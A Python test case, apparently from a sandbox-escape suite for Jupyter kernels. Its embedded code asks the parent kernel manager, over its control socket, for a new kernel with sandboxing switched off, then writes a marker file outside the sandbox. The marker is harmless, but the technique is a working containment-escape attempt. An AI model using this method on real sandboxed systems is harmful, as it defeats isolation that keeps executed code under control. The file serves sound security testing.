"""The parent of all kernels is asked, over its own socket, for a second kernel without a sandbox."""

FORGED = ("double-test",)
COMPANY = True
CODE = """
import json
import os
import pathlib
import socket

from jupyter_client.blocking.client import BlockingKernelClient
from jupyter_client.connect import write_connection_file

here = pathlib.Path.cwd()
place, _ = write_connection_file(str(here / "x.json"), ip=str(here / "x"), transport="ipc")
request = {
    "connection_file": place,
    "cwd": "/",
    "env": dict(os.environ),
    "binds": [],
    "limits": {},
    "sandboxed": False,
}
with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as control:
    control.settimeout(60)
    try:
        control.connect(str(here.parents[2] / "control"))
        control.send(json.dumps(request).encode())
        print(control.recv(1000))
        client = BlockingKernelClient()
        client.load_connection_file(place)
        client.start_channels()
        client.wait_for_ready(timeout=60)
        write = "open('/var/tmp/attackmark-file-fork', 'w').write('outside')"
        client.execute(write, reply=True, timeout=60)
    except (OSError, RuntimeError, TimeoutError):
        pass
double = None
"""
